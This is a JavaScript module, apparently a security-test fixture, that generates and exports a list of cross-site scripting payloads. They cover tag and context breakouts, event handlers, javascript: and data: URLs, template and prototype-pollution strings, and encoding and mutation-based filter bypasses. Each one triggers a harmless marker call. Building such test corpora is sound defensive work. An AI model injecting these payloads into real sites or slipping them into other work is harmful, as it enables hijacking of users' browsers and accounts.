/** How smuggled text would make itself heard. */
const CALL = "smuggled('x')"

const TAGS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'x onpointerover',
  'x tabindex=1 onfocus',
  'button popovertarget=x onclick',
  'div onanimationstart',
  'form><button onclick',
]

/** What has to be closed first, depending on where the text ends up. */
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '-->',
  ']]>',
  '</svg>',
  '</template>',
  '</select>',
  '`',
]

const SCRIPTS = WAYS_OUT.map((out) => `${out}<script>${CALL}</script>`)
const HANDLERS = TAGS.map((tag) => `<${tag}="${CALL}">`)
const BROKEN_OUT = WAYS_OUT.slice(1).map((out) => `${out}<img src=x onerror=${CALL}>`)
const ATTRIBUTES = [
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `" autofocus onfocus="${CALL}" x="`,
  `x onerror=${CALL} `,
  `" style="animation-name:x" onanimationstart="${CALL}`,
  `"srcdoc="<script>parent.${CALL}</script>`,
]
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `javascript://%0a${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `vbscript:${CALL}`,
  `<a href="javascript:${CALL}" autofocus>x</a>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<base href="javascript:/x/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<object data="javascript:${CALL}"></object>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
]
const DATA = [
  `";${CALL};//`,
  `';${CALL};//`,
  `\\";${CALL};//`,
  `\${${CALL}}`,
  `{{constructor.constructor("${CALL}")()}}`,
  `\u2028${CALL}\u2029`,
  `</script><script>${CALL}//`,
  '<!--<script>',
  '<!-- --!>',
  `__proto__`,
  `{"__html":"<img src=x onerror=${CALL}>"}`,
  `{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"<b>"}}}`,
]
const ENCODED = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `<\u200bscript>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<script\u00a0>${CALL}</script>`,
  `<svg/onload=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<style>@import'javascript:${CALL}';</style>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<custom-element onclick=${CALL} autofocus>`,
]

/** Texts that run where somebody writes them into a page unguarded. */
export const PAYLOADS = [
  ...new Set([...SCRIPTS, ...HANDLERS, ...BROKEN_OUT, ...ATTRIBUTES, ...ADDRESSES, ...DATA, ...ENCODED]),
]
